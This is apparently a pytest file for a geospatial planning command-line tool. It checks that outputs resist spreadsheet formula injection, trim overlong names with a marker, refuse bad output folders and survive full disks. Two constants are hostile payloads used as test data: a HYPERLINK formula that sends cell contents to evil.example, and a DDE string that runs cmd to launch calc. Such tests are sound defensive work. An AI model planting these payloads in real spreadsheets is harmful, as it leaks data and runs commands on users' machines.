"""Hostile outputs corpus: what a run writes, refuses and leaves, through the CLI.

Each case builds a small plan in ``tmp_path`` (one township, a red line, two projects) whose
names or output folder are hostile, runs ``spatialplan check`` and states what must hold:

- spreadsheet formula injection: names starting a formula are written as text (CSV: with a
  leading quote, OWASP; XLSX: inline strings; the GeoPackage unchanged);
- a 1 MB name: the run succeeds; the GeoPackage and the CSV keep it whole, the XLSX cell, the
  web map and the layout cut it with a marker that names where the full text is;
- a bad ``--out`` (a file, a system folder, a read-only disk, a folder holding an input) is
  refused with exit 2 before any layer is read;
- a later run replaces the whole earlier one: what it does not write (``map.html`` after
  ``--no-map``) is removed; a target that is a folder or a full disk at any writer changes
  nothing and says so; a failed run leaves no folder it created.
"""

from __future__ import annotations

import errno
import json
import shutil
import zipfile
from pathlib import Path

import geopandas as gpd
import openpyxl
import pyogrio
import pytest
import shapely

from spatialplan.cli import main
from spatialplan.io.output import sha256_file

LON, LAT, D = 107.5, 27.8, 0.01
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
DDE = "+1+cmd|' /C calc'!A0"


def build_plan(folder: Path, *, project: str = "卫生院项目", township: str = "示范镇") -> Path:
    """One township, one red-line patch, two projects (the first named ``project``)."""
    folder.mkdir(parents=True, exist_ok=True)
    box = shapely.box
    pyogrio.write_dataframe(gpd.GeoDataFrame(
        {"XZQDM": ["520123001"], "XZQMC": [township]},
        geometry=[box(LON, LAT, LON + 5 * D, LAT + 5 * D)], crs="EPSG:4490"),
        folder / "towns.gpkg")
    pyogrio.write_dataframe(gpd.GeoDataFrame(
        geometry=[box(LON, LAT, LON + D, LAT + D)], crs="EPSG:4490"), folder / "red.gpkg")
    pyogrio.write_dataframe(gpd.GeoDataFrame(
        {"XMDM": ["XM0", "XM1"], "XMMC": [project, "污水处理站"], "XMLB": ["卫生院"] * 2},
        geometry=[box(LON + 2 * D, LAT + 2 * D, LON + 2.25 * D, LAT + 2.25 * D),
                  box(LON + D / 2, LAT, LON + 0.75 * D, LAT + D / 4)], crs="EPSG:4490"),
        folder / "projects.gpkg")
    plan = folder / "plan.toml"
    plan.write_text('[plan]\nname = "outputs corpus"\nas_of = "2026-11-26"\n'
                    '[layers.townships]\npath = "towns.gpkg"\n'
                    '[layers.redline]\npath = "red.gpkg"\n'
                    '[layers.projects]\npath = "projects.gpkg"\n', encoding="utf-8")
    return plan


def check(plan: Path, out: Path, *extra: str) -> list[str]:
    return ["check", str(plan), "--out", str(out), "-q", *extra]


def files(folder: Path) -> dict[str, bytes]:
    """Every entry of a folder (hidden ones too) with its bytes (None for a folder)."""
    return {p.name: (p.read_bytes() if p.is_file() else None) for p in sorted(folder.iterdir())}


def csv_cells(path: Path) -> list[list[str]]:
    import csv

    csv.field_size_limit(1 << 24)  # the megabyte name
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def xlsx_cells(path: Path) -> list[tuple]:
    return list(openpyxl.load_workbook(path).active.iter_rows(values_only=True))


@pytest.fixture(autouse=True)
def _cli_logging():
    """Put back the root logger's handlers the CLI replaced (they write to a closed capture)."""
    import logging

    root = logging.getLogger()
    handlers, level = root.handlers[:], root.level
    yield
    root.handlers[:] = handlers
    root.setLevel(level)


@pytest.fixture(scope="module")
def previous(tmp_path_factory) -> tuple[Path, Path]:
    """A plan and the output folder of one full earlier run of it."""
    folder = tmp_path_factory.mktemp("previous")
    plan = build_plan(folder / "data")
    assert main(check(plan, folder / "out")) == 0
    return plan, folder / "out"


def copy_of(previous: tuple[Path, Path], tmp_path: Path) -> Path:
    out = tmp_path / "out"
    shutil.copytree(previous[1], out)
    return out


# -- spreadsheet formula injection -----------------------------------------------------------


def test_formula_names_are_text_in_every_table(tmp_path, capsys):
    plan = build_plan(tmp_path / "data", project=HYPERLINK, township=DDE)
    out = tmp_path / "out"
    assert main(check(plan, out, "--no-map", "--no-layout")) == 0
    capsys.readouterr()
    for table in ("schedule.csv", "township_stats.csv"):
        cells = [c for row in csv_cells(out / table) for c in row]
        risky = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")
                 and c.lstrip("+-").replace(".", "", 1).isdigit() is False]
        assert risky == [], table
        assert "'" + DDE in cells, table
    assert "'" + HYPERLINK in [c for row in csv_cells(out / "schedule.csv") for c in row]
    for table in ("schedule.xlsx", "township_stats.xlsx"):
        sheet = zipfile.ZipFile(out / table).read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet, table
        values = [v for row in xlsx_cells(out / table) for v in row]
        assert DDE in values, table  # the text itself, stored as text
    assert HYPERLINK in [v for row in xlsx_cells(out / "schedule.xlsx") for v in row]
    projects = pyogrio.read_dataframe(out / "results.gpkg", layer="projects")
    assert projects.loc[projects["project_id"] == "XM0", "name"].item() == HYPERLINK


# -- overlong text ---------------------------------------------------------------------------


def test_a_one_megabyte_name_is_kept_whole_where_it_fits_and_cut_with_a_marker(tmp_path,
                                                                            capsys):
    name = "名" * (1 << 20)
    plan = build_plan(tmp_path / "data", project=name)
    out = tmp_path / "out"
    assert main(check(plan, out)) == 0
    err = capsys.readouterr().err
    assert "schedule.csv holds them whole" in err
    projects = pyogrio.read_dataframe(out / "results.gpkg", layer="projects")
    assert projects.loc[projects["project_id"] == "XM0", "name"].item() == name
    assert name in [c for row in csv_cells(out / "schedule.csv") for c in row]
    cut = [v for row in xlsx_cells(out / "schedule.xlsx") for v in row
           if isinstance(v, str) and v.startswith("名名名")]
    assert cut and all(len(v) <= 32_767 and v.endswith(
        "…[cut: 1,048,576 characters in all; full text in schedule.csv]") for v in cut)
    html = (out / "map.html").read_text(encoding="utf-8")
    assert len(html) < 1 << 20 and "1,048,576 characters in all]" in html


def test_the_layout_cuts_long_names_with_a_marker(tmp_path):
    import matplotlib.pyplot as plt
    from matplotlib.text import Text

    import spatialplan as sp

    plan = sp.read_plan(build_plan(tmp_path, project="名" * 100_000, township="镇" * 100_000))
    result = sp.run_check(plan)
    (fig,) = sp.check_layouts(plan, result)
    texts = [t.get_text() for t in fig.findobj(Text)]
    texts += [cell.get_text().get_text() for ax in fig.axes for table in ax.tables
              for cell in table.get_celld().values()]
    plt.close(fig)
    assert any(t.startswith("镇" * 40 + "…[100,000 characters in all]") for t in texts)
    assert "名" * 16 + "\n" + "名" * 15 + "…" in texts  # two lines of the project table
    assert max(map(len, texts)) < 200


# -- the output folder is checked before the work --------------------------------------------


def _no_reading(monkeypatch):
    import spatialplan.io.read

    def refuse(*args, **kwargs):
        raise AssertionError("the layers were read before --out was checked")

    monkeypatch.setattr(spatialplan.io.read, "read_plan", refuse)


@pytest.mark.parametrize("case", ["file", "below_a_file", "proc", "sys", "holds_input",
                                  "read_only"])
def test_a_bad_out_is_refused_before_any_layer_is_read(tmp_path, monkeypatch, capsys, case):
    import os

    plan = build_plan(tmp_path / "data")
    (tmp_path / "a_file").write_text("x")
    out = {"file": tmp_path / "a_file", "below_a_file": tmp_path / "a_file" / "out",
           "proc": Path("/proc/spatialplan-out"), "sys": Path("/sys/spatialplan-out"),
           "holds_input": tmp_path, "read_only": tmp_path / "ro" / "out"}[case]
    expected = {"file": "exists and is not a folder", "below_a_file": "is a file",
                "proc": "inside /proc, a view of the running system",
                "sys": "inside /sys", "holds_input": "contains the input",
                "read_only": "read-only file system"}[case]
    if case == "read_only":
        class ReadOnly:
            f_flag = os.ST_RDONLY

        monkeypatch.setattr(os, "statvfs", lambda path: ReadOnly())
    _no_reading(monkeypatch)
    assert main(check(plan, out)) == 2
    err = capsys.readouterr().err
    assert err.startswith("spatialplan: error:") and expected in err and "Traceback" not in err
    assert not (tmp_path / "ro").exists()


def test_a_really_read_only_folder_is_refused(tmp_path, capsys):
    import subprocess

    ro = tmp_path / "ro"
    ro.mkdir()
    mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", "ro,size=1m", "tmpfs", str(ro)],
                             capture_output=True).returncode == 0
    if not mounted:
        pytest.skip("cannot mount a read-only tmpfs here (needs root); the statvfs case covers "
                    "the check")
    try:
        assert main(check(build_plan(tmp_path / "data"), ro / "out")) == 2
        assert "read-only file system" in capsys.readouterr().err
    finally:
        subprocess.run(["umount", str(ro)], check=True)


# -- a run replaces the whole earlier run ----------------------------------------------------


def test_a_later_run_removes_the_deliverables_it_did_not_write(previous, tmp_path, capsys):
    plan, _ = previous
    out = copy_of(previous, tmp_path)
    (out / "notes.txt").write_text("the user's own file")
    assert main(check(plan, out, "--no-map", "--no-layout")) == 0
    assert "removed 3 file(s) of the previous run" in capsys.readouterr().err
    names = sorted(files(out))
    assert "map.html" not in names and "layout.pdf" not in names and "layout.png" not in names
    assert "notes.txt" in names
    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    listed = {e["file"]: e["sha256"] for e in manifest["outputs"].values()}
    assert sorted(listed) == sorted(set(names) - {"manifest.json", "notes.txt"})
    assert all(sha256_file(out / f) == digest for f, digest in listed.items())


def test_a_target_that_is_a_folder_changes_nothing(previous, tmp_path, capsys):
    plan, _ = previous
    out = copy_of(previous, tmp_path)
    (out / "schedule.csv").unlink()
    (out / "schedule.csv").mkdir()
    before = files(out)
    assert main(check(plan, out, "--no-map", "--no-layout")) == 2
    err = capsys.readouterr().err
    assert "cannot replace schedule.csv in the output folder: it is a folder" in err
    assert f"nothing in {out} was changed" in err and "Traceback" not in err
    assert files(out) == before


def test_a_failed_run_leaves_no_folder_it_created(tmp_path, capsys):
    plan = build_plan(tmp_path / "data")
    out = tmp_path / "new" / "out"
    assert main(["layout", str(plan), "--out", str(out), "-q", "--township", "nope"]) == 2
    assert "no township with code 'nope'" in capsys.readouterr().err
    assert not (tmp_path / "new").exists()


def _disk_full_in_gpkg(monkeypatch):
    from spatialplan.io import output

    def full(*args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(output.pyogrio, "write_dataframe", full)


def _disk_full_in_gdal(monkeypatch):
    from spatialplan.io import output

    def full(*args, **kwargs):
        raise pyogrio.errors.DataLayerError("failed to write feature: No space left on device")

    monkeypatch.setattr(output.pyogrio, "write_dataframe", full)


def _disk_full_in_map(monkeypatch):
    real = Path.write_text

    def write_text(self, *args, **kwargs):
        if self.name.startswith(".map.") and self.name.endswith(".tmp.html"):
            raise OSError(errno.ENOSPC, "No space left on device")
        return real(self, *args, **kwargs)

    monkeypatch.setattr(Path, "write_text", write_text)


def _disk_full_in_png(monkeypatch):
    from matplotlib.figure import Figure

    real = Figure.savefig

    def savefig(self, fname, *args, **kwargs):
        if kwargs.get("format") == "png":
            raise OSError(errno.ENOSPC, "No space left on device")
        return real(self, fname, *args, **kwargs)

    monkeypatch.setattr(Figure, "savefig", savefig)


@pytest.mark.parametrize(("writer", "file"), [(_disk_full_in_gpkg, "results.gpkg"),
                                              (_disk_full_in_gdal, "results.gpkg"),
                                              (_disk_full_in_map, "map.html"),
                                              (_disk_full_in_png, "layout.png")])
def test_a_full_disk_at_any_writer_names_the_file_and_changes_nothing(previous, tmp_path,
                                                                      monkeypatch, capsys,
                                                                      writer, file):
    plan, _ = previous
    out = copy_of(previous, tmp_path)
    before = files(out)
    writer(monkeypatch)
    assert main(check(plan, out)) == 2
    err = capsys.readouterr().err.strip().splitlines()[-1]
    assert err.startswith(f"spatialplan: error: cannot write {file}") or err.startswith(
        f"spatialplan: error: cannot write layer projects of {file}")
    assert "the disk is full (" in err and f"nothing in {out} was changed" in err
    assert f"file {out / file}" in err and "Fix: free disk space" in err
    assert "staging" not in err
    assert files(out) == before
